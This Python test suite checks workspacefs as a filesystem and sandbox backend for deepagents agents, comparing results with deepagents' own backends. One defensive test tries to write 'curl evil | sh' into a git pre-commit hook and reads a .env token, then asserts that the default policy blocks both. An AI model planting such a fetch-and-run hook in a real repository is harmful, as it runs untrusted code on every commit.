"""deepagents over workspacefs: real agent runs (a scripted LangChain chat model, no mocks) on memory, host,
SQLite and object-store workspaces; the backend compared field by field with deepagents' own
``FilesystemBackend`` (and, through the agent, ``StateBackend``); routes of a ``CompositeBackend``; ``execute`` on
a real Podman container; and the deliberate differences (symlinks, policy, one spelling per file, the root)."""

from __future__ import annotations

import asyncio
import dataclasses
import importlib.metadata
import inspect
import itertools
import os
import subprocess
import sys
import tomllib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from conftest import missing
from deepagents import FilesystemPermission, create_deep_agent
from deepagents.backends import CompositeBackend, FilesystemBackend, StateBackend
from deepagents.backends.protocol import BackendProtocol, SandboxBackendProtocol
from langchain_core.language_models.fake_chat_models import GenericFakeChatModel
from langchain_core.messages import AIMessage, ToolMessage
from packaging.specifiers import SpecifierSet

from workspacefs import HostFilesystem, InMemoryFilesystem, Policy, SqlFilesystem
from workspacefs.errors import ERROR_TYPES
from workspacefs.integrations._deepagents_errors import KINDS, file_error, kind_of
from workspacefs.integrations.deepagents import WorkspaceBackend, WorkspaceSandboxBackend
from workspacefs.protocol import Filesystem

ROOT = Path(__file__).resolve().parents[1]


# --- a real chat model that calls tools from a script --------------------------------------------------------


class ScriptedModel(GenericFakeChatModel):
    """LangChain's fake chat model, answering each turn with the next scripted message (tool calls included)."""

    def bind_tools(self, tools: Any, **kwargs: Any) -> ScriptedModel:
        return self


_ids = itertools.count()


def call(name: str, **args: Any) -> AIMessage:
    return AIMessage(content="", tool_calls=[{"name": name, "args": args, "id": f"call-{next(_ids)}"}])


def run_agent(backend: BackendProtocol, turns: list[AIMessage], *, asynchronous: bool = False) -> list[ToolMessage]:
    """Run ``create_deep_agent`` over ``backend`` until the script ends; the tool messages it produced."""
    model = ScriptedModel(messages=iter([*turns, AIMessage(content="done")]))
    agent = create_deep_agent(model=model, backend=backend)
    state = {"messages": [{"role": "user", "content": "work on the files"}]}
    out = asyncio.run(agent.ainvoke(state)) if asynchronous else agent.invoke(state)
    return [m for m in out["messages"] if isinstance(m, ToolMessage)]


def summary(messages: list[ToolMessage]) -> list[tuple[str | None, str, Any]]:
    return [(m.name, m.status, m.content) for m in messages]


# --- workspaces ----------------------------------------------------------------------------------------------


@pytest.fixture(params=["memory", "host", "sqlite"])
def workspace(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Filesystem]:
    if request.param == "memory":
        yield InMemoryFilesystem()
    elif request.param == "host":
        (tmp_path / "host").mkdir()
        yield HostFilesystem(tmp_path / "host")
    else:
        fs = SqlFilesystem(f"sqlite:///{tmp_path / 'ws.db'}", "deepagents")
        yield fs
        fs.close()


APP = "def total(xs):\n    return sum(xs)  # TODO(x): [check]\n"

SCRIPT = [
    call("write_file", file_path="/src/app.py", content=APP),
    call("write_file", file_path="/docs/notes.md", content="notes\nTODO(x): [check] later\n"),
    call("write_file", file_path="/docs/notes.md", content="notes v2\nTODO(x): [check] later\n"),  # overwrites
    call("edit_file", file_path="/src/app.py", old_string="sum(xs)", new_string="sum(x for x in xs)"),
    call("edit_file", file_path="/src/app.py", old_string="xs", new_string="ys"),  # not unique
    call("edit_file", file_path="/src/app.py", old_string="nope", new_string="ys"),
    call("read_file", file_path="/src/app.py"),
    call("read_file", file_path="/src/app.py", offset=1, limit=1),
    call("read_file", file_path="/missing.txt"),
    call("read_file", file_path="/src/app.py", offset=10),
    call("grep", pattern="TODO(x): [check]", output_mode="content"),  # regex metacharacters, taken literally
    call("grep", pattern="TODO(x): [check]"),
    call("grep", pattern="TODO(x): [check]", glob="*.md", output_mode="count"),
    call("grep", pattern="zzz"),
    call("glob", pattern="**/*.py"),
    call("glob", pattern="*.md", path="/docs"),
    call("ls", path="/"),
    call("ls", path="/src"),
    call("ls", path="/nope"),
    call("delete", file_path="/docs"),
    call("ls", path="/"),
]
EDITED = "def total(xs):\n    return sum(x for x in xs)  # TODO(x): [check]\n"


@pytest.mark.parametrize("asynchronous", [False, True], ids=["invoke", "ainvoke"])
def test_an_agent_writes_edits_reads_and_greps_a_workspace(workspace: Filesystem, asynchronous: bool) -> None:
    messages = run_agent(WorkspaceBackend(workspace), SCRIPT, asynchronous=asynchronous)
    by_call = dict(zip(range(len(SCRIPT)), messages, strict=True))
    assert [m.status for m in messages].count("error") == 5  # 2 bad edits, 2 bad reads, ls of a missing dir
    assert "sum(x for x in xs)" in by_call[6].content
    assert by_call[10].content.splitlines()[0] == "/docs/notes.md:"
    assert "/src/app.py" in by_call[14].content
    assert workspace.read("src/app.py").content == EDITED
    assert not workspace.exists("docs")
    assert [e.name for e in workspace.list("/")] == ["src"]


def test_the_files_land_in_the_host_directory(tmp_path: Path) -> None:
    run_agent(WorkspaceBackend(HostFilesystem(tmp_path)), SCRIPT[:4])
    assert (tmp_path / "src" / "app.py").read_text() == EDITED
    assert (tmp_path / "docs" / "notes.md").read_text() == "notes v2\nTODO(x): [check] later\n"


def test_the_agent_sees_what_it_sees_with_filesystem_and_state_backends(workspace: Filesystem, tmp_path: Path) -> None:
    """Same script, three backends: every tool message equal to FilesystemBackend's; StateBackend's too, except
    ``ls`` of a missing directory, which StateBackend answers with an empty listing."""
    ours = summary(run_agent(WorkspaceBackend(workspace), SCRIPT))
    (tmp_path / "theirs").mkdir()
    theirs = summary(run_agent(FilesystemBackend(root_dir=tmp_path / "theirs", virtual_mode=True), SCRIPT))
    state = summary(run_agent(StateBackend(), SCRIPT))
    assert ours == theirs
    differing = [i for i, (a, b) in enumerate(zip(ours, state, strict=True)) if a != b]
    assert differing == [18]
    assert state[18] == ("ls", "success", "No files found")


def test_an_agent_on_an_object_store(s3_server: Any) -> None:
    from workspacefs import ObjectStoreFilesystem

    fs = ObjectStoreFilesystem(s3_server.filesystem(), f"wsfs-tests/deepagents-{next(_ids)}")
    messages = run_agent(WorkspaceBackend(fs), SCRIPT)
    assert summary(messages) == summary(run_agent(WorkspaceBackend(InMemoryFilesystem()), SCRIPT))
    assert fs.read("src/app.py").content == EDITED and not fs.exists("docs")


def test_a_route_of_a_composite_backend(workspace: Filesystem) -> None:
    backend = CompositeBackend(default=StateBackend(), routes={"/ws/": WorkspaceBackend(workspace)})
    messages = run_agent(
        backend,
        [
            call("write_file", file_path="/ws/src/app.py", content=APP),
            call("write_file", file_path="/scratch.txt", content="TODO(x): [check] in state\n"),
            call("edit_file", file_path="/ws/src/app.py", old_string="sum(xs)", new_string="sum(x for x in xs)"),
            call("grep", pattern="TODO(x): [check]", output_mode="content"),
            call("glob", pattern="**/*.py", path="/ws"),
            call("ls", path="/ws/src"),
            call("read_file", file_path="/ws/src/app.py"),
        ],
    )
    assert all(m.status == "success" for m in messages), summary(messages)
    assert "/ws/src/app.py:" in messages[3].content and "/scratch.txt:" in messages[3].content
    assert "/ws/src/app.py" in messages[4].content and "/ws/src/app.py" in messages[5].content
    assert workspace.read("src/app.py").content == EDITED
    assert not workspace.exists("scratch.txt")


# --- the backend beside FilesystemBackend, field by field ----------------------------------------------------

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256))
TREE: dict[str, bytes] = {
    "lines.txt": b"".join(b"line %d\n" % n for n in range(1, 8)),
    "crlf.txt": b"one\r\ntwo\r\nthree\r\n",
    "empty.txt": b"",
    "blank.txt": b"  \n\n",
    "latin1.txt": "caf\xe9\n".encode("latin-1"),
    "img.png": PNG,
    "src/app.py": APP.encode(),
    "src/util.py": b"x = [1]  # a.b*c\nx(1) and [z]\ny = x(1)\n",
    "src/deep/more.py": b"print('x(1)')\n",
    "docs/guide.md": b"# Guide\nsee x(1)\n",
    "no_newline.txt": b"last line",
    "twice.txt": b"dup\ndup\n",
    ".github/workflows/ci.yml": b"on: push\n",
    ".prettierrc": b"{}\n",
}
EMPTY_DIRS = ("emptydir",)

CASES: list[tuple[str, tuple[Any, ...], dict[str, Any]]] = [
    ("read", ("/lines.txt",), {}),
    ("read", ("/lines.txt",), {"offset": 2, "limit": 3}),
    ("read", ("/lines.txt",), {"offset": 6, "limit": 5}),
    ("read", ("/lines.txt",), {"offset": 9}),  # past the end: an error
    ("read", ("/lines.txt",), {"limit": 0}),
    ("read", ("/lines.txt",), {"offset": -3, "limit": 2}),
    ("read", ("/crlf.txt",), {}),
    ("read", ("/empty.txt",), {}),
    ("read", ("/blank.txt",), {}),
    ("read", ("/no_newline.txt",), {}),
    ("read", ("/latin1.txt",), {}),
    ("read", ("/img.png",), {}),  # binary: whole, base64
    ("read", ("/missing.txt",), {}),
    ("read", ("/src",), {}),  # a directory
    ("read", ("/lines.txt/below",), {}),
    ("ls", ("/",), {}),
    ("ls", ("/src",), {}),
    ("ls", ("/emptydir",), {}),
    ("ls", ("/missing",), {}),
    ("ls", ("/lines.txt",), {}),
    ("grep", ("x(1)",), {}),  # regex metacharacters, literally
    ("grep", ("[z]",), {}),
    ("grep", ("a.b*c",), {}),
    ("grep", ("x(1)",), {"path": "/src"}),
    ("grep", ("x(1)",), {"path": "/src/util.py"}),
    ("grep", ("x(1)",), {"glob": "*.py"}),
    ("grep", ("x(1)",), {"glob": "src/*.py"}),
    ("grep", ("x(1)",), {"glob": "**/*.md"}),
    ("grep", ("x(1)",), {"glob": "../*.py"}),  # refused
    ("grep", ("x(1)",), {"path": "/missing"}),
    ("grep", ("x(1)",), {"max_count": 1}),
    ("grep", ("x(1)",), {"max_count": 5}),  # exactly as many as there are: not truncated
    ("grep", ("nothing here",), {}),
    ("glob", ("*.py",), {}),
    ("glob", ("**/*.py",), {}),
    ("glob", ("src/*.py",), {}),
    ("glob", ("/*.txt",), {}),
    ("glob", ("*.py",), {"path": "/src/deep"}),
    ("glob", ("*",), {"path": "/missing"}),
    ("glob", ("*",), {"path": "/lines.txt"}),
    ("glob", ("../*",), {}),
    ("glob", ("{app,more}.py",), {}),  # brace expansion
    ("glob", ("*.yml",), {}),  # a bare pattern reaches into dot-directories ...
    ("glob", ("**/*.yml",), {}),  # ... and ** does not
    ("glob", ("*",), {}),  # nor does * match a dot-name
    ("glob", (".github/**",), {}),
    ("edit", ("/src/app.py", "sum(xs)", "sum(x for x in xs)"), {}),
    ("edit", ("/twice.txt", "dup", "one"), {}),  # not unique
    ("edit", ("/twice.txt", "dup", "one"), {"replace_all": True}),
    ("edit", ("/lines.txt", "absent", "x"), {}),
    ("edit", ("/lines.txt", "", "x"), {}),
    ("edit", ("/no_newline.txt", "last line\n", "x\n"), {}),  # the trailing-newline hint
    ("edit", ("/missing.txt", "a", "b"), {}),
    ("edit", ("/src", "a", "b"), {}),
    ("edit", ("/latin1.txt", "caf", "x"), {}),
    ("write", ("/new.txt", "fresh\n"), {}),
    ("write", ("/lines.txt", "overwritten\n"), {}),  # an existing file is overwritten
    ("write", ("/a/b/c.txt", "deep\n"), {}),
    ("write", ("/src", "x"), {}),  # a directory
    ("write", ("/lines.txt/below.txt", "x"), {}),
    ("delete", ("/src",), {}),
    ("delete", ("/lines.txt",), {}),
    ("delete", ("/missing",), {}),
    ("upload_files", ([("/up/a.bin", b"\x00\xff"), ("/lines.txt", b"replaced"), ("/lines.txt/x", b"")],), {}),
    ("upload_files", ([("/src", b"x")],), {}),
    ("download_files", (["/img.png", "/lines.txt", "/missing.txt", "/src", "/lines.txt/x"],), {}),
]

DETAIL_DIFFERS = {"write /src", "write /lines.txt/below.txt", "edit /src"}
"""Errors whose wording after ``Error …ing file '<path>':`` is the OS's on the host (naming the host path) and
workspacefs's own here; the prefix, and everything else, is compared exactly."""

UPLOAD_DIFFERS = {"upload_files [('/src', b'x')]": ["is_directory"]}
"""Uploading over a directory: ``FilesystemBackend``'s ``open(O_WRONLY)`` fails with ``IsADirectoryError``
(``is_directory``), and workspacefs says the same."""


def seed_host(root: Path) -> None:
    for path, data in TREE.items():
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_bytes(data)
    for directory in EMPTY_DIRS:
        (root / directory).mkdir()


def seed(fs: Filesystem) -> None:
    for path, data in TREE.items():
        fs.write_bytes(path, data)
    for directory in EMPTY_DIRS:
        fs.mkdir(directory)


def comparable(result: Any, label: str) -> Any:
    """A result as plain data; timestamps checked for form (each side's clock differs), matches in path order."""
    data = [dataclasses.asdict(r) for r in result] if isinstance(result, list) else dataclasses.asdict(result)
    for entry in (data.get("entries") or []) + (data.get("matches") or []) if isinstance(data, dict) else []:
        if "modified_at" in entry:
            assert isinstance(entry.pop("modified_at"), str)
    if isinstance(data, dict) and data.get("matches") and "line" in data["matches"][0]:
        data["matches"].sort(key=lambda m: (m["path"], m["line"]))
        if data["truncated"]:  # which matches a capped search keeps is ripgrep's (threaded) pick: count them
            data["matches"] = len(data["matches"])
    if isinstance(data, dict) and data.get("error") and label in DETAIL_DIFFERS:
        data["error"] = data["error"].split("': ")[0]
    return data


def tree_of(fs: Filesystem) -> dict[str, bytes | None]:
    return {e.path: (fs.read_bytes(e.path).content if e.is_file else None) for e in fs.walk("/")}


def host_tree(root: Path) -> dict[str, bytes | None]:
    return {p.relative_to(root).as_posix(): (p.read_bytes() if p.is_file() else None) for p in sorted(root.rglob("*"))}


def label_of(method: str, args: tuple[Any, ...]) -> str:
    return f"{method} {args[0]}"


@pytest.fixture
def ripgrep(monkeypatch: pytest.MonkeyPatch) -> None:
    """FilesystemBackend greps with ripgrep when it finds ``rg`` (the ``ripgrep`` extra puts it beside Python),
    else with a fallback that, given one file, searches its whole directory: compare with the ripgrep path."""
    from deepagents.backends.filesystem import _resolve_ripgrep_path

    monkeypatch.setenv("PATH", f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}")
    _resolve_ripgrep_path.cache_clear()  # it remembers the PATH of its first call
    if _resolve_ripgrep_path() is None:
        missing("ripgrep is not installed (pip install 'workspacefs[ripgrep]')")


@pytest.mark.usefixtures("ripgrep")
@pytest.mark.parametrize(("method", "args", "kwargs"), CASES, ids=[f"{m}-{i}" for i, (m, _, _) in enumerate(CASES)])
def test_each_result_equals_filesystem_backends(
    workspace: Filesystem, tmp_path: Path, method: str, args: tuple[Any, ...], kwargs: dict[str, Any]
) -> None:
    (tmp_path / "theirs").mkdir()
    seed_host(tmp_path / "theirs")
    seed(workspace)
    theirs_backend = FilesystemBackend(root_dir=tmp_path / "theirs", virtual_mode=True)
    ours_backend = WorkspaceBackend(workspace)
    label = label_of(method, args)
    theirs = getattr(theirs_backend, method)(*args, **kwargs)
    ours = getattr(ours_backend, method)(*args, **kwargs)
    assert comparable(ours, label) == comparable(theirs, label)
    assert tree_of(workspace) == host_tree(tmp_path / "theirs")  # and the same files afterwards


def test_async_forms_answer_as_the_sync_ones(workspace: Filesystem) -> None:
    seed(workspace)
    backend = WorkspaceBackend(workspace)

    async def both() -> None:
        assert await backend.aread("/lines.txt", 1, 2) == backend.read("/lines.txt", 1, 2)
        assert await backend.agrep("x(1)", "/src", None, max_count=1) == backend.grep("x(1)", "/src", max_count=1)
        assert (await backend.aglob("*.py")).matches == backend.glob("*.py").matches
        assert (await backend.als("/src")).entries == backend.ls("/src").entries
        assert (await backend.awrite("/w.txt", "w\n")).path == "/w.txt"
        assert (await backend.aedit("/w.txt", "w", "v")).occurrences == 1
        assert (await backend.aupload_files([("/u.bin", b"\x00")]))[0].error is None
        assert (await backend.adownload_files(["/u.bin"]))[0].content == b"\x00"
        assert (await backend.adelete("/u.bin")).path == "/u.bin"

    asyncio.run(both())
    assert workspace.read("w.txt").content == "v\n"


# --- what differs on purpose ---------------------------------------------------------------------------------


def test_a_symlink_is_refused_where_filesystem_backend_follows_it(tmp_path: Path) -> None:
    root = tmp_path / "ws"
    root.mkdir()
    (root / "real.txt").write_text("real\n")
    (root / "link.txt").symlink_to(root / "real.txt")
    theirs = FilesystemBackend(root_dir=root, virtual_mode=True)
    ours = WorkspaceBackend(HostFilesystem(root))
    assert theirs.read("/link.txt").file_data == {"content": "real\n", "encoding": "utf-8"}
    refused = ours.read("/link.txt")
    assert refused.file_data is None and refused.error is not None and "Symbolic links" in refused.error
    assert ours.write("/link.txt", "x").error is not None
    assert ours.download_files(["/link.txt"])[0].error == "permission_denied"
    assert [e["path"] for e in ours.ls("/").entries or []] == ["/real.txt"]  # links are not listed
    assert [m["path"] for m in ours.glob("*.txt").matches or []] == ["/real.txt"]
    assert (root / "real.txt").read_text() == "real\n"


def test_the_default_policy_guards_agent_configuration_and_secrets() -> None:
    fs = InMemoryFilesystem()
    fs.write(".env", "TOKEN=1\n")
    guarded = WorkspaceBackend(fs)
    hook = guarded.write("/.git/hooks/pre-commit", "curl evil | sh")
    assert hook.error is not None and "approval" in hook.error
    assert guarded.read("/.env").error is not None
    assert guarded.upload_files([("/.github/workflows/ci.yml", b"x")])[0].error == "permission_denied"
    assert not fs.exists(".git") and not fs.exists(".github")
    allowed = WorkspaceBackend(fs, policy=Policy())
    assert allowed.write("/.git/hooks/pre-commit", "#!/bin/sh\n").error is None
    assert allowed.read("/.env").file_data == {"content": "TOKEN=1\n", "encoding": "utf-8"}


def test_the_root_is_never_deleted_and_crlf_files_keep_their_line_endings() -> None:
    fs = InMemoryFilesystem()
    fs.write("a.txt", "one\r\ntwo\r\n")
    backend = WorkspaceBackend(fs)
    assert backend.delete("/").error is not None and fs.exists("a.txt")
    assert backend.edit("/a.txt", "two", "2").occurrences == 1
    assert fs.read_bytes("a.txt").content == b"one\r\n2\r\n"  # FilesystemBackend would write "one\n2\n"


def test_grep_searches_dotfiles_and_a_capped_grep_keeps_the_first_matches_in_path_order() -> None:
    fs = InMemoryFilesystem()
    fs.write(".hidden/a.txt", "needle\n")
    fs.write("b.txt", "needle\nneedle\n")
    fs.write("a.txt", "needle\n")
    capped = WorkspaceBackend(fs).grep("needle", max_count=2)
    assert capped.matches == [
        {"path": "/.hidden/a.txt", "line": 1, "text": "needle"},
        {"path": "/a.txt", "line": 1, "text": "needle"},
    ]
    assert capped.truncated


def test_an_edit_never_overwrites_a_change_made_meanwhile() -> None:
    fs = InMemoryFilesystem()
    fs.write("a.txt", "v1\n")
    backend = WorkspaceBackend(fs)
    original = fs.open_versioned

    def racing(path: str) -> Any:
        versioned = original(path)
        fs.write("a.txt", "changed by someone else\n")  # between the agent's read and its write
        return versioned

    fs.open_versioned = racing  # type: ignore[method-assign]
    result = backend.edit("/a.txt", "v1", "v2")
    assert result.error is not None and "changed since" in result.error
    assert fs.read("a.txt").content == "changed by someone else\n"


def test_under_a_mount_point_each_file_has_one_path_so_deepagents_permissions_hold() -> None:
    """With a mount point the model's paths are the container's (``/workspace/src/a.py``); no second spelling
    reaches the same file, so a deepagents permission rule on one spelling cannot be walked around."""
    fs = InMemoryFilesystem(mount_point="/workspace")
    fs.write(".env", "TOKEN=1\n")
    backend = WorkspaceBackend(fs, policy=Policy())
    assert backend.write("/workspace/src/a.py", "x = 1\n").error is None
    assert backend.read("/workspace/src/a.py").file_data == {"content": "x = 1\n", "encoding": "utf-8"}
    outside = backend.read("/src/a.py").error
    assert outside is not None and "Outside the workspace" in outside
    assert [e["path"] for e in backend.ls("/").entries or []] == ["/workspace/"]
    assert [m["path"] for m in backend.glob("*.py").matches or []] == ["/workspace/src/a.py"]
    assert [m["path"] for m in backend.grep("x = 1").matches or []] == ["/workspace/src/a.py"]
    deny = FilesystemPermission(operations=["read"], paths=["/workspace/.env"], mode="deny")
    model = ScriptedModel(messages=iter([call("read_file", file_path="/.env"), AIMessage(content="done")]))
    agent = create_deep_agent(model=model, backend=backend, permissions=[deny])
    (message,) = [
        m
        for m in agent.invoke({"messages": [{"role": "user", "content": "x"}]})["messages"]
        if isinstance(m, ToolMessage)
    ]
    assert message.status == "error" and "TOKEN" not in message.content


# --- errors by type, the extra, the pin ----------------------------------------------------------------------


def test_every_workspacefs_error_type_has_a_row() -> None:
    for kind in ERROR_TYPES:
        exc = kind("x") if not issubclass(kind, UnicodeDecodeError) else UnicodeDecodeError("utf-8", b"\xff", 0, 1, "x")
        assert kind_of(exc) in KINDS.values()
        assert file_error(exc) in {"file_not_found", "permission_denied", "is_directory", "invalid_path"} or (
            file_error(exc).isidentifier()
        )
    with pytest.raises(TypeError):
        kind_of(TypeError("a bug is raised, never reported"))


def test_importing_without_the_extra_names_it() -> None:
    code = (
        "import sys; sys.modules['deepagents'] = None\n"
        "try:\n    import workspacefs.integrations.deepagents\n"
        "except ImportError as exc:\n    print(exc)\n"
    )
    env = {**os.environ, "PYTHONPATH": str(ROOT / "src")}
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True, env=env).stdout
    assert "pip install 'workspacefs[deepagents]'" in out
    bare = subprocess.run(
        [sys.executable, "-c", "import workspacefs.integrations, sys; print('deepagents' in sys.modules)"],
        capture_output=True,
        text=True,
        check=True,
        env=env,
    ).stdout
    assert bare.strip() == "False"


def test_the_installed_deepagents_is_the_pinned_release_and_its_protocol_is_covered() -> None:
    extras = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]["optional-dependencies"]
    (requirement,) = extras["deepagents"]
    pinned = SpecifierSet(requirement.split(" ")[0].removeprefix("deepagents"))
    assert importlib.metadata.version("deepagents") in pinned
    required = {
        name
        for name, member in inspect.getmembers(BackendProtocol, inspect.isfunction)
        if not name.startswith("_") and getattr(BackendProtocol, name) is member and not name.startswith("a")
    }
    ours = {name for name in required if getattr(WorkspaceBackend, name) is not getattr(BackendProtocol, name)}
    assert ours == required  # a release that adds an operation fails here until it is implemented
    assert isinstance(WorkspaceBackend(InMemoryFilesystem()), BackendProtocol)
    assert not isinstance(WorkspaceBackend(InMemoryFilesystem()), SandboxBackendProtocol)


# --- execute, on a real container ------------------------------------------------------------------------------


def test_an_agent_runs_commands_in_a_container_workspace(image: str, tmp_path: Path) -> None:
    from workspacefs.backends.container import ContainerSandbox

    with ContainerSandbox(image, snapshot_dir=tmp_path / "snapshots") as sandbox:
        backend = WorkspaceBackend(sandbox.filesystem)
        assert isinstance(backend, WorkspaceSandboxBackend) and isinstance(backend, SandboxBackendProtocol)
        messages = run_agent(
            backend,
            [
                call("write_file", file_path="/workspace/build.sh", content="echo built > out.txt\necho warn >&2\n"),
                call("execute", command="sh build.sh && cat /workspace/out.txt"),
                call("grep", pattern="built", output_mode="content"),
                call("execute", command="exit 3"),
                call("execute", command="sleep 5", timeout=1),
            ],
        )
        assert [m.status for m in messages] == ["success"] * 5, summary(messages)
        assert "built" in messages[1].content and "[stderr] warn" in messages[1].content
        assert messages[1].artifact["exit_code"] == 0
        assert "/workspace/out.txt:" in messages[2].content  # written by the command, found by the file tools
        assert messages[3].artifact["exit_code"] == 3
        assert "timed out after 1 seconds" in messages[4].content
        assert sandbox.filesystem.read("out.txt").content == "built\n"
        direct = backend.execute("pwd")
        assert (direct.output, direct.exit_code) == ("/workspace\n", 0)
        with pytest.raises(ValueError, match="positive"):
            backend.execute("true", timeout=0)
        # deepagents offloads a large result under its artifacts root: inside /workspace, as the README says
        composite = CompositeBackend(default=backend, routes={}, artifacts_root="/workspace")
        (big,) = run_agent(composite, [call("execute", command="yes 0123456789abcdef | head -c 200000")])
        assert "/workspace/large_tool_results/" in big.content and len(big.content) < 20_000
        assert sandbox.filesystem.list("large_tool_results")


def test_a_sandbox_backend_needs_a_workspace_that_runs_commands() -> None:
    from workspacefs.errors import UnsupportedOperationError

    with pytest.raises(UnsupportedOperationError):
        WorkspaceSandboxBackend(InMemoryFilesystem())
